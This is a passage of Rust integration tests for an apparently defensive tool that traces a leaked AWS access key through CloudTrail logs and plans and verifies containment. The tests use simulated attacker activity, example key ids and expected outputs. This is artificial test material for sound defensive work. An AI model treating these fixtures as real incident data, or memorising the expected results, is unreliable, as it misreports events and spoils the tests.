        .unwrap()
        .iter()
        .map(|t| t["credential"].as_str().unwrap())
        .collect();
    // The leaked key (valid until deactivated) and both live sessions outlive the evidence.
    assert!(
        tail.contains(&LEAKED) && tail.contains(&admin.as_str()) && tail.contains(&deploy.as_str()),
        "{tail:?}"
    );
    let leaked =
        p["unseen_tail"].as_array().unwrap().iter().find(|t| t["credential"] == LEAKED).unwrap();
    assert!(leaked["reason"].as_str().unwrap().contains("AssumeRole"), "{leaked}");
    assert!(p["notes"]
        .as_array()
        .unwrap()
        .iter()
        .any(|n| n.as_str().unwrap().contains("re-run on logs through the cut-off")));
    let (_, v) = verify(&d, &p);
    assert_eq!(v["unseen_tail"].as_array().unwrap().len(), tail.len());
    let (_, b, _) = run(&["blast", "--format", "json", "--key", LEAKED], &d);
    assert_eq!(b["evidence_window"], p["evidence_window"]);
}

#[test]
fn a_future_dated_record_never_moves_the_default_cut_off() {
    let (mut s, _, _) = two_roles();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    // 2031-01-01: after the tests' SOURCE_DATE_EPOCH (2026-01-01).
    s.assume_role(
        &leaked,
        1_924_992_000,
        &format!("arn:aws:iam::{MAIN}:role/AdminRole"),
        "future",
        3600,
    );
    let d = write(&s, &[]);
    let (code, p, err) = run(&["plan", "--key", LEAKED], &d);
    assert_eq!(p["effective_at"], "2026-01-01T00:00:00Z", "the cut-off is now, not 2031");
    assert!(
        p["notes"].as_array().unwrap().iter().any(|n| n.as_str().unwrap().contains("time anomaly")),
        "{p}"
    );
    // A session dated after the cut-off is not cut by a deny on older sessions: if the record
    // is genuine it stays alive, so the plan says so and fails closed, as `verify` does.
    assert_eq!(code, 1, "{err}");
    assert_eq!(p["summary"]["uncovered_sessions"], 1, "{}", p["summary"]);
    assert!(err.contains("does NOT cut 1 live tainted session"), "{err}");
    let (vcode, _) = verify(&d, &p);
    assert_eq!(vcode, 1);
}

#[test]
fn a_key_that_matches_nothing_is_a_usage_error_naming_the_closest() {
    let (s, _, _) = two_roles();
    let d = write(&s, &[]);
    for cmd in ["sessions", "blast", "plan", "investigate"] {
        let mut args = vec![cmd, "--key", "AKIAIOSFODNN7EXAMPLF"];
        let case = d.path().join("case");
        if cmd == "investigate" {
            args.extend(["-o", case.to_str().unwrap()]);
        }
        let (code, _, err) = run(&args, &d);
        assert_eq!(code, 2, "{cmd}: {err}");
        assert!(err.contains(LEAKED), "{cmd}: names the closest key: {err}");
        assert!(!case.exists(), "no empty case folder");
    }
    // Lower case is accepted (key ids are upper case).
    let (code, _, err) = run(&["blast", "--key", &LEAKED.to_lowercase()], &d);
    assert_eq!(code, 0, "{err}");
    let (code, _, err) =
        run(&["blast", "--key", &format!("arn:aws:iam::{MAIN}:user/ci-deployer")], &d);
    assert_eq!(code, 2);
    assert!(err.contains("--principal"), "{err}");
    let empty = TempDir::new().unwrap();
    std::fs::create_dir_all(empty.path().join("trail")).unwrap();
    let (code, _, err) = run(&["scan"], &empty);
    assert_eq!(code, 2, "nothing read at all: {err}");
}

#[test]
fn scenario_trails_are_plain_cloudtrail() {
    let (s, _, _) = two_roles();
    let d = write(&s, &[]);
    let (code, v) = scan_json(&[d.path().join("trail").to_str().unwrap()]);
    assert_eq!(code, 0);
    assert_eq!(v["events"], 5);
}

/// `run` with "now" pinned to `now` (unix seconds) instead of the tests' 2026.
fn run_at(now: i64, args: &[&str], d: &TempDir) -> (i32, Value, String) {
    let o = bin()
        .env("SOURCE_DATE_EPOCH", now.to_string())
        .args(args)
        .arg("--no-progress")
        .arg(d.path().join("trail"))
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&o.stderr).to_string();
    let v = if o.stdout.starts_with(b"{") { json(&o.stdout) } else { Value::Null };
    (o.status.code().unwrap(), v, err)
}

#[test]
fn a_cut_off_in_the_future_never_turns_a_session_alive_now_into_an_expired_one() {
    // Now is 10:30; DeployRole's session (10:02 for an hour) is alive now and expires at
    // 11:02, before the cut-off of 12:00. Until then it works: it needs its deny.
    let (s, _, deploy) = two_roles();
    let d = write(&s, &[]);
    let now = T0 + 1800;
    let cut = "2024-03-11T12:00:00Z";
    let (code, p, err) = run_at(now, &["plan", "--key", LEAKED, "--effective-at", cut], &d);
    assert_eq!(code, 0, "{err}");
    assert_eq!(p["summary"]["expired_sessions"], 0, "{}", p["summary"]);
    assert_eq!(p["summary"]["covered_sessions"], 2, "{}", p["summary"]);
    assert!(principals(&p, "put_role_policy").iter().any(|a| a.ends_with("role/DeployRole")));
    let path = d.path().join("plan.json");
    let verify_at = |plan: &Value| {
        std::fs::write(&path, serde_json::to_vec(plan).unwrap()).unwrap();
        run_at(now, &["verify", "--format", "json", "--plan", path.to_str().unwrap()], &d)
    };
    let (vcode, v, _) = verify_at(&p);
    assert_eq!(vcode, 0, "{v}");
    // The same plan without DeployRole's deny: verify does not call its session expired.
    let mut cut_short = p.clone();
    cut_short["actions"]
        .as_array_mut()
        .unwrap()
        .retain(|a| !a["principal_arn"].as_str().unwrap_or("").ends_with("role/DeployRole"));
    let (vcode, v, _) = verify_at(&cut_short);
    assert_eq!(vcode, 1, "{v}");
    let missed: Vec<&str> = v["not_covered"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["session"].as_str().unwrap())
        .collect();
    assert_eq!(missed, [deploy.as_str()], "{v}");
}

#[test]
fn verify_refuses_a_trail_without_the_plans_seeds() {
    let (s, _, _) = two_roles();
    let d = write(&s, &[]);
    let (code, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &d);
    assert_eq!(code, 0, "{err}");
    // Another trail, where the leaked key never appears (a narrower copy, say).
    let mut other = Scenario::new();
    let k = other.user_key(MAIN, "someone-else", "AKIAI44QH8DHBEXAMPLE");
    other.call(&k, T0, "sts.amazonaws.com", "GetCallerIdentity", Value::Null);
    let o = write(&other, &[]);
    let path = d.path().join("plan.json");
    let verify_err = |plan: &Value, on: &TempDir| {
        std::fs::write(&path, serde_json::to_vec(plan).unwrap()).unwrap();
        let (code, v, err) = run(&["verify", "--plan", path.to_str().unwrap()], on);
        assert!(v.is_null(), "no verdict: {v}");
        (code, err)
    };
    let (vcode, verr) = verify_err(&p, &o);
    assert_eq!(vcode, 2, "{verr}");
    assert!(verr.contains("the plan's seed AKIAIOSFODNN7EXAMPLE is not in this trail"), "{verr}");
    // A plan edited to name no seed at all.
    let mut none = p.clone();
    none["seeds"] = json!([]);
    let (vcode, verr) = verify_err(&none, &d);
    assert_eq!(vcode, 2, "{verr}");
    assert!(verr.contains("names no seeds"), "{verr}");
    // The plan's own trail still verifies.
    let (vcode, v) = verify(&d, &p);
    assert_eq!(vcode, 0, "{v}");
}

#[test]
fn a_precautionary_action_that_replaces_an_evidence_deny_is_judged_by_what_it_leaves() {
    // plan.sh runs the precautionary actions last: one with the same policy name on the same
    // role replaces the evidence-based deny in IAM. Here it keeps the name and the cut-off but
    // narrows the deny to another session's aws:userid: AdminRole's session is not cut.
    let (s, admin, _) = two_roles();
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    let deny = actions(&p, "put_role_policy")
        .into_iter()
        .find(|a| a["principal_arn"].as_str().unwrap().ends_with("role/AdminRole"))
        .unwrap()
        .clone();
    let mut weak = deny.clone();
    let before = serde_json::to_string(&deny["policy_document"]).unwrap();
    weak["policy_document"]["Statement"][0]["Condition"]["StringLike"] =
        json!({"aws:userid": "*:someone-else"});
    let after = serde_json::to_string(&weak["policy_document"]).unwrap();
    let command = deny["command"].as_str().unwrap();
    assert!(command.contains(&before), "{command}");
    weak["command"] = command.replace(&before, &after).into();
    weak["order"] = json!(p["actions"].as_array().unwrap().len() + 1);
    let mut edited = p.clone();
    edited["precautionary"] = json!([weak]);
    let (code, v) = verify(&d, &edited);
    assert_eq!(code, 1, "{v}");
    let missed: Vec<&str> = v["not_covered"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["session"].as_str().unwrap())
        .collect();
    assert_eq!(missed, [admin.as_str()], "{v}");
    // Its command itself checks out: the replacement, not the command, is what fails.
    assert_eq!(v["command_problems"].as_array().map_or(0, Vec::len), 0, "{v}");
    assert_eq!(v["precautionary"]["command_problems"], json!([]), "{v}");
    // One that moves the cut-off to 2000 is a deny the planner never writes: not applied, a
    // command problem.
    let text = serde_json::to_string(&deny).unwrap().replace(CUT, "2000-01-01T00:00:00Z");
    let mut early: Value = serde_json::from_str(&text).unwrap();
    early["order"] = json!(p["actions"].as_array().unwrap().len() + 1);
    edited["precautionary"] = json!([early]);
    let (code, v) = verify(&d, &edited);
    assert_eq!(code, 1, "{v}");
    let problems = v["precautionary"]["command_problems"].to_string();
    assert!(problems.contains("earlier than the plan's cut-off"), "{problems}");
}

#[test]
fn one_role_reached_through_two_arns_gets_one_deny() {
    // The leaked key assumes role ci/Deploy (its ARN with the path); a second leaked session
    // of the same role is seen only in a call whose identity has no sessionIssuer, so its
    // role ARN is rebuilt without the path. IAM knows one role (put-role-policy takes its
    // name): one deny must cover both, not two puts of one policy name, the second
    // replacing the first.
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let first = s.assume_role(
        &leaked,
        T0 + 60,
        &format!("arn:aws:iam::{MAIN}:role/ci/Deploy"),
        "a",
        43_200,
    );
    s.call(&first, T0 + 70, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    let other = "ASIAEXAMPLEPATHLESS1";
    let rec = format!(
        r#"{{"eventVersion":"1.08","userIdentity":{{"type":"AssumedRole","principalId":"AROAEXAMPLEDEPLOY001:b","arn":"arn:aws:sts::{MAIN}:assumed-role/Deploy/b","accountId":"{MAIN}","accessKeyId":"{other}","sessionContext":{{"attributes":{{"creationDate":"2024-03-11T10:04:00Z","mfaAuthenticated":"false"}}}}}},"eventTime":"2024-03-11T10:05:00Z","eventSource":"s3.amazonaws.com","eventName":"ListBuckets","awsRegion":"us-east-1","sourceIPAddress":"203.0.113.9","userAgent":"aws-cli/2.15.0","requestParameters":null,"responseElements":null,"requestID":"r-b","eventID":"00000000-0000-0000-0000-0000000000b7","readOnly":true,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"{MAIN}","eventCategory":"Management"}}"#
    );
    crate::util::write(
        d.path(),
        &format!("trail/AWSLogs/{MAIN}/CloudTrail/us-east-1/2024/03/11/b.json.gz"),
        &gz(format!("{{\"Records\":[{rec}]}}").as_bytes()),
    );
    for strategy in ["strict", "surgical"] {
        let (code, p, err) = run(
            &[
                "plan",
                "--key",
                LEAKED,
                "--key",
                other,
                "--strategy",
                strategy,
                "--effective-at",
                CUT,
            ],
            &d,
        );
        assert_eq!(code, 0, "{strategy}: {err}");
        let puts = actions(&p, "put_role_policy");
        assert_eq!(puts.len(), 1, "{strategy}: {puts:?}");
        assert_eq!(puts[0]["covers"].as_array().unwrap().len(), 2, "{strategy}: {}", puts[0]);
        let (vcode, v) = verify(&d, &p);
        assert_eq!(vcode, 0, "{strategy}: {v}");
        assert_eq!(v["covered"].as_array().unwrap().len(), 2, "{strategy}: {v}");
    }
}

#[test]
fn verify_says_which_cuts_wait_on_an_account_without_logs() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let admin = s.assume_role(
        &leaked,
        T0 + 60,
        &format!("arn:aws:iam::{MAIN}:role/AdminRole"),
        "ci",
        43_200,
    );
    let hop =
        s.assume_role(&admin, T0 + 400, &format!("arn:aws:iam::{SECOND}:role/Audit"), "x", 43_200);
    s.call(&hop, T0 + 410, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[SECOND]);
    let p = plan(&d, LEAKED, "strict");
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v}");
    let notes: Vec<&str> =
        v["notes"].as_array().unwrap().iter().map(|n| n.as_str().unwrap()).collect();
    assert!(
        notes.iter().any(|n| n.starts_with("1 covered session(s) are cut by a deny in account 444455556666, whose logs are not in the trail")),
        "{notes:?}"
    );
    assert!(!notes.iter().any(|n| n.contains("account 111122223333, whose logs")), "{notes:?}");
}

/// The leaked key launches two instances with an existing role's instance profile
/// (`RunInstances`); the first instance's role session is used from outside and alive at the
/// cut-off, the second's expired before it. Another instance of the same role, not launched
/// in the logs, is the company's own. Whoever launches an instance holds its role's
/// sessions, and the instance fetches new ones by itself: both launched instances' sessions
/// are tainted, and only a deny by their `aws:userid` with no time condition cuts them.
fn launched_instances() -> (Scenario, String, String, String) {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let role = format!("arn:aws:iam::{MAIN}:role/AppRole");
    let (live, gone, own) = ("i-0a1b2c3d4e5f60718", "i-0b1c2d3e4f5a60718", "i-0f0e0d0c0b0a09080");
    s.run_instances(&leaked, T0 + 60, "AppProfile", &[live, gone]);
    let a = s.instance_session(&role, live, T0 + 120, 6 * 3600);
    let b = s.instance_session(&role, gone, T0 + 120, 900);
    let c = s.instance_session(&role, own, T0 + 100, 6 * 3600);
    s.call(&a, T0 + 300, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.call(&b, T0 + 310, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.call(&c, T0 + 320, "s3.amazonaws.com", "ListBuckets", Value::Null);
    (s, a.node_id(), b.node_id(), c.node_id())
}

#[test]
fn instances_the_attacker_launched_with_an_existing_role_are_cut_renewals_included() {
    let (s, live, gone, own) = launched_instances();
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    assert!(tainted.contains(&live) && tainted.contains(&gone), "{tainted:?}");
    assert!(!tainted.contains(&own), "the company's own instance is not the attacker's");

    for strategy in ["strict", "surgical"] {
        let p = plan(&d, LEAKED, strategy);
        let puts = actions(&p, "put_role_policy");
        assert_eq!(puts.len(), 1, "{strategy}: {p}");
        let doc = &puts[0]["policy_document"];
        let launch: Vec<&Value> = doc["Statement"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|st| st["Sid"] == "TrailhoundDenyLaunchedInstances")
            .collect();
        assert_eq!(launch.len(), 1, "{strategy}: {doc}");
        let cond = &launch[0]["Condition"];
        assert!(cond.get("DateLessThan").is_none(), "no time condition: {cond}");
        let ids: Vec<&str> = cond["StringLike"]["aws:userid"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_str().unwrap())
            .collect();
        assert_eq!(ids.len(), 2, "{ids:?}");
        assert!(ids
            .iter()
            .all(|i| i.ends_with(":i-0a1b2c3d4e5f60718") || i.ends_with(":i-0b1c2d3e4f5a60718")));
        let (code, v) = verify(&d, &p);
        assert_eq!(code, 0, "{strategy}: {v}");
        assert!(v["covered"].as_array().unwrap().iter().any(|c| c["session"] == live.as_str()));
        if strategy == "surgical" {
            assert!(v["collateral"].as_array().unwrap().is_empty(), "{v}");
        }

        // Without the launch statement (the time-conditioned deny alone), the live session is
        // cut but the next one either instance fetches is not: NOT covered.
        let mut m = p.clone();
        for a in m["actions"].as_array_mut().unwrap() {
            if a["type"] != "put_role_policy" {
                continue;
            }
            let old = serde_json::to_string(&a["policy_document"]).unwrap();
            let cmd = a["command"].as_str().unwrap().to_string();
            assert!(cmd.contains(&old), "the command carries the document: {cmd}");
            a["policy_document"]["Statement"]
                .as_array_mut()
                .unwrap()
                .retain(|st| st["Sid"] != "TrailhoundDenyLaunchedInstances");
            let new = serde_json::to_string(&a["policy_document"]).unwrap();
            a["command"] = json!(cmd.replace(&old, &new));
        }
        let (code, v) = verify(&d, &m);
        assert_eq!(code, 1, "{strategy}: {v}");
        let missed = v["not_covered"].as_array().unwrap();
        for sess in [&live, &gone] {
            assert!(missed.iter().any(|c| c["session"] == sess.as_str()), "{sess}: {v}");
        }
    }
}

/// A session's `aws:TokenIssueTime` is the `creationDate` its calls carry (F5): when STS
/// logged the `AssumeRole` a second before, a cut-off at "the call's second + 1" does not
/// deny it, and the plan must not say it does.
#[test]
fn a_session_is_timed_by_its_creation_date_when_the_issuing_call_is_a_second_earlier() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let mut admin = s.assume_role(
        &leaked,
        T0 + 60,
        &format!("arn:aws:iam::{MAIN}:role/AdminRole"),
        "ci",
        43_200,
    );
    // The session is named by its issuing call's second; its own calls carry the next.
    let id = admin.node_id();
    admin.issued_at = Some(T0 + 61);
    s.call(&admin, T0 + 200, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    let plan_at = |cut: &str| {
        run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", cut], &d)
    };
    // 10:01:01 is after the call (10:01:00) but not after the session's issue time.
    let (code, p, err) = plan_at("2024-03-11T10:01:01Z");
    assert_eq!(code, 1, "{err}");
    assert_eq!(p["summary"]["uncovered_sessions"], 1, "{p}");
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 1, "{v}");
    assert!(
        v["not_covered"].as_array().unwrap().iter().any(|c| c["session"] == id.as_str()),
        "{v}"
    );
    // A second later it is denied, and both agree.
    let (code, p, err) = plan_at("2024-03-11T10:01:02Z");
    assert_eq!(code, 0, "{err}");
    assert_eq!(verify(&d, &p).0, 0);
}

/// A key created by the leaked key, logged without its response: its id is in no record of
/// the call, so no action can deactivate it. The plan says so (a review item, NOT CUT, exit
/// 1) and `verify` does not call the plan complete.
#[test]
fn a_key_created_without_its_id_in_the_logs_is_not_cut_and_said_so() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let made = s.create_access_key_unanswered(&leaked, T0 + 60, Some("alice"));
    s.call(&made, T0 + 120, "sts.amazonaws.com", "GetCallerIdentity", Value::Null);
    let d = write(&s, &[]);
    let (code, p, err) =
        run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", CUT], &d);
    assert_eq!(code, 1, "{err}");
    assert_eq!(p["summary"]["keys_by_hand"], 1, "{p}");
    let review = actions(&p, "review");
    assert!(
        review.iter().any(|a| a["command"]
            .as_str()
            .unwrap()
            .contains("list-access-keys --user-name 'alice'")),
        "{p}"
    );
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 1, "{v}");
    assert!(v["keys_left_active"]
        .as_array()
        .unwrap()
        .iter()
        .any(|k| k.as_str().unwrap().contains("alice")));
}

/// The leaked key sets the console password of an existing user, `alice`: the plan denies
/// alice everything (no condition), which also stops alice's own access key, used before and
/// after. That key is not the attacker's: plan and verify both count it as collateral.
#[test]
fn a_taken_over_users_own_key_is_collateral_of_its_deny_all() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let own = "AKIAEXAMPLEALICE0001";
    let alice = s.user_key(MAIN, "alice", own);
    s.call(&alice, T0 + 10, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.update_login_profile(&leaked, T0 + 60, "alice");
    s.call(&alice, T0 + 120, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    let puts = actions(&p, "put_user_policy");
    let deny = puts
        .iter()
        .find(|a| a["principal_arn"].as_str().is_some_and(|x| x.ends_with(":user/alice")))
        .expect("alice is denied");
    assert_eq!(deny["collateral"], json!([own]), "{deny}");
    assert_eq!(p["summary"]["collateral_sessions"], 1, "{p}");
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v}");
    assert!(v["collateral"].as_array().unwrap().iter().any(|c| c["session"] == own), "{v}");
}

/// The leaked key sets the console password of `bob`, naming him `BOB` (IAM names are
/// unique regardless of case: the call succeeded on bob); bob's console session, whose calls
/// lack the console flag, assumes AdminRole for 12 hours. The session and what it made are
/// the attacker's whichever way the name is spelled or the flag is written.
#[test]
fn a_taken_over_users_console_session_is_the_attackers_whatever_the_case_or_flag() {
    for (spelled, flagged) in [("bob", false), ("BOB", true), ("BOB", false)] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        s.update_login_profile(&leaked, T0 + 60, spelled);
        let console = s.console_login(MAIN, T0 + 120, "bob");
        let console = if flagged { console } else { console.unflagged() };
        let admin = s.assume_role(
            &console,
            T0 + 180,
            &format!("arn:aws:iam::{MAIN}:role/AdminRole"),
            "bob",
            43_200,
        );
        s.call(&admin, T0 + 240, "s3.amazonaws.com", "ListBuckets", Value::Null);
        let d = write(&s, &[]);
        let tainted = tainted_ids(&d, LEAKED);
        let case = format!("{spelled} flagged={flagged}");
        assert!(tainted.contains(&console.node_id()), "{case}: {tainted:?}");
        assert!(tainted.contains(&admin.node_id()), "{case}: {tainted:?}");
        let p = plan(&d, LEAKED, "strict");
        assert!(
            principals(&p, "put_role_policy").iter().any(|a| a.ends_with("role/AdminRole")),
            "{case}"
        );
        assert_eq!(verify(&d, &p).0, 0, "{case}");
    }
}

/// Only account A's logs: the leaked key assumes B's `Pivot` role twice with one session name,
/// and one of those sessions assumes A's `Admin` role, seen in A only as the role owner's
/// copy (`AROA…:s`). Either Pivot session may have made the call, and both are tainted: the
/// Admin session is the attacker's (before, several candidates left it to nobody: OK).
#[test]
fn a_role_owners_copy_with_several_possible_callers_is_linked_to_each() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let pivot = format!("arn:aws:iam::{SECOND}:role/Pivot");
    let first = s.assume_role(&leaked, T0, &pivot, "s", 3600);
    s.assume_role(&leaked, T0 + 10, &pivot, "s", 3600);
    let admin =
        s.assume_role(&first, T0 + 60, &format!("arn:aws:iam::{MAIN}:role/Admin"), "back", 43_200);
    s.call(&admin, T0 + 120, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[SECOND]);
    let tainted = tainted_ids(&d, LEAKED);
    assert!(tainted.contains(&admin.node_id()), "{tainted:?}");
    let p = plan(&d, LEAKED, "strict");
    assert!(principals(&p, "put_role_policy").iter().any(|a| a.ends_with(":role/Admin")), "{p}");
    assert_eq!(verify(&d, &p).0, 0);
}

/// The leaked key makes user `backup` and a key for it; that key takes a federated session
/// (`GetFederationToken`). The plan removes `backup` (its deny-all is deleted just before the
/// user, as `DeleteUser` requires): the federated session acts with the user's permissions
/// (F7), so removing the user cuts it, and plan and verify agree (verify said NOT covered).
#[test]
fn a_federated_session_of_a_user_the_plan_removes_is_cut_with_it() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.create_user(&leaked, T0 + 60, "backup");
    let key = s.create_access_key(&leaked, T0 + 120, Some("backup"));
    let fed = s.get_federation_token(&key, T0 + 180, "ops", 43_200);
    s.call(&fed, T0 + 240, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    assert!(tainted_ids(&d, LEAKED).contains(&fed.node_id()));
    let p = plan(&d, LEAKED, "strict");
    assert!(!actions(&p, "delete_user").is_empty(), "{p}");
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v}");
    assert!(v["covered"].as_array().unwrap().iter().any(|c| c["session"] == fed.node_id()), "{v}");
}

/// A forged trail names one instance in 200 launches, and the instance has 200 sessions: only
/// the first launch links it (an instance is launched once), so the graph draws 200 edges,
/// not 40,000.
#[test]
fn one_instance_named_by_many_launches_is_linked_once() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let (role, id) = (format!("arn:aws:iam::{MAIN}:role/AppRole"), "i-0a1b2c3d4e5f60718");
    for k in 0..200 {
        s.run_instances(&leaked, T0 + k, "AppProfile", &[id]);
    }
    for k in 0..200 {
        let c = s.instance_session(&role, id, T0 + 300 + 60 * k, 3600);
        s.call(&c, T0 + 310 + 60 * k, "s3.amazonaws.com", "ListBuckets", Value::Null);
    }
    let d = write(&s, &[]);
    let (_, g, err) = run(&["sessions", "--format", "json"], &d);
    let launches = g["edges"]
        .as_array()
        .unwrap_or_else(|| panic!("{err}"))
        .iter()
        .filter(|e| e["event_name"] == "RunInstances")
        .count();
    assert_eq!(launches, 200);
}

/// The leaked key gives alice, an existing user, an SSH public key and a service-specific
/// credential (a Bedrock API key, say), and its own user a signing certificate whose record
/// lacks the response. Each acts as its user and no deny on `aws:TokenIssueTime` ends it: the
/// plan deactivates the two it has ids for, and the certificate is NOT CUT (exit 1); `verify`
/// fails a plan without a deactivation (before: review items only, and verify said OK).
#[test]
fn ssh_keys_and_service_credentials_the_attacker_made_are_deactivated() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let ssh = "APKAEIBAERJR2EXAMPLE";
    let svc = "ACCAEXAMPLE123EXAMPLE";
    s.call_full(
        &leaked,
        T0 + 30,
        "iam.amazonaws.com",
        "UploadSSHPublicKey",
        json!({"userName": "alice", "sSHPublicKeyBody": "ssh-rsa AAAA"}),
        json!({"sSHPublicKey": {"userName": "alice", "sSHPublicKeyId": ssh, "status": "Active"}}),
        None,
        "aws-cli/2.15.0",
    );
    s.call_full(
        &leaked,
        T0 + 60,
        "iam.amazonaws.com",
        "CreateServiceSpecificCredential",
        json!({"userName": "alice", "serviceName": "bedrock.amazonaws.com"}),
        json!({"serviceSpecificCredential": {"userName": "alice", "serviceSpecificCredentialId": svc, "status": "Active"}}),
        None,
        "aws-cli/2.15.0",
    );
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    let of = |kind: &str| -> Vec<(String, String)> {
        actions(&p, kind)
            .iter()
            .map(|a| {
                (
                    a["user_name"].as_str().unwrap().into(),
                    a["credential_id"].as_str().unwrap().into(),
                )
            })
            .collect()
    };
    assert_eq!(of("deactivate_ssh_public_key"), [("alice".to_string(), ssh.to_string())], "{p:#}");
    assert_eq!(
        of("deactivate_service_specific_credential"),
        [("alice".to_string(), svc.to_string())],
        "{p:#}"
    );
    let cmd = actions(&p, "deactivate_ssh_public_key")[0]["command"].as_str().unwrap().to_string();
    assert_eq!(
        cmd,
        format!("aws iam update-ssh-public-key --user-name alice --ssh-public-key-id {ssh} --status Inactive")
    );
    assert_eq!(verify(&d, &p).0, 0);
    // Without the deactivation of the service credential: verify fails, naming it.
    let mut m = p.clone();
    m["actions"]
        .as_array_mut()
        .unwrap()
        .retain(|a| a["type"] != "deactivate_service_specific_credential");
    let (code, v) = verify(&d, &m);
    assert_eq!(code, 1, "{v}");
    assert!(v["keys_left_active"].to_string().contains(svc), "{v}");
    // A signing certificate whose id the log does not show, on a user not denied everything.
    s.call_full(
        &leaked,
        T0 + 90,
        "iam.amazonaws.com",
        "UploadSigningCertificate",
        json!({"certificateBody": "-----BEGIN CERTIFICATE-----"}),
        Value::Null,
        None,
        "aws-cli/2.15.0",
    );
    let d = write(&s, &[]);
    let (code, p, _) =
        run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", CUT], &d);
    assert_eq!(code, 1, "{p:#}");
    assert!(
        p["notes"].to_string().contains("NOT CUT: the signing certificate of user ci-deployer"),
        "{p:#}"
    );
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 1, "{v}");
    assert!(v["keys_left_active"].to_string().contains("signing certificate"), "{v}");
    // The attacker's own user signs in, and its console session's call carries no key (F17).
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.create_user(&leaked, T0, "backup");
    s.create_login_profile(&leaked, T0 + 5, "backup");
    let console = s.console_login(MAIN, T0 + 60, "backup");
    s.call_full(
        &console,
        T0 + 90,
        "iam.amazonaws.com",
        "UploadSSHPublicKey",
        json!({"userName": "alice", "sSHPublicKeyBody": "ssh-rsa AAAA"}),
        json!({"sSHPublicKey": {"userName": "alice", "sSHPublicKeyId": ssh, "status": "Active"}}),
        None,
        "aws-cli/2.15.0",
    );
    s.edit_records(|_, r| {
        if r["eventName"] == "UploadSSHPublicKey" {
            r["userIdentity"].as_object_mut().unwrap().remove("accessKeyId");
        }
    });
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    assert_eq!(actions(&p, "deactivate_ssh_public_key").len(), 1, "{p:#}");
    // Deactivations come before the denies.
    let order: Vec<&str> =
        p["actions"].as_array().unwrap().iter().map(|a| a["type"].as_str().unwrap()).collect();
    let at = |t: &str| order.iter().position(|x| *x == t).unwrap();
    assert!(at("deactivate_ssh_public_key") < at("put_user_policy"), "{order:?}");
    assert_eq!(verify(&d, &p).0, 0);
}

/// A plan made with `--principal` for a user, then verified on a later trail where another
/// key of that user (not in the plan's seeds) took an AdminRole session: `verify` selects the
/// principal's credentials again on the trail it reads, and fails (before: it re-derived from
/// the plan's keys alone and said OK).
#[test]
fn verify_of_a_principal_plan_follows_the_principals_other_keys_in_later_logs() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.call(&leaked, T0, "sts.amazonaws.com", "GetCallerIdentity", Value::Null);
    let a = write(&s, &[]);
    let user = format!("arn:aws:iam::{MAIN}:user/ci-deployer");
    let (code, p, err) = run(&["plan", "--principal", &user, "--effective-at", CUT], &a);
    assert_eq!(code, 0, "{err}");
    assert_eq!(p["seed_principals"], json!([user]), "{p:#}");
    let second = s.user_key(MAIN, "ci-deployer", "AKIAJCIDEPLOYER2EXAM");
    let admin = s.assume_role(
        &second,
        T0 + 600,
        &format!("arn:aws:iam::{MAIN}:role/AdminRole"),
        "x",
        43200,
    );
    s.call(&admin, T0 + 660, "iam.amazonaws.com", "ListUsers", Value::Null);
    let b = write(&s, &[]);
    let (code, v) = verify(&b, &p);
    assert_eq!(code, 1, "{v:#}");
    assert!(v["keys_left_active"].to_string().contains("AKIAJCIDEPLOYER2EXAM"), "{v:#}");
    assert!(v["not_covered"].to_string().contains(&admin.key), "{v:#}");
    // The same plan on its own trail: OK.
    assert_eq!(verify(&a, &p).0, 0);
    // The later key's records spell the user in other capitals, with the user's unique id
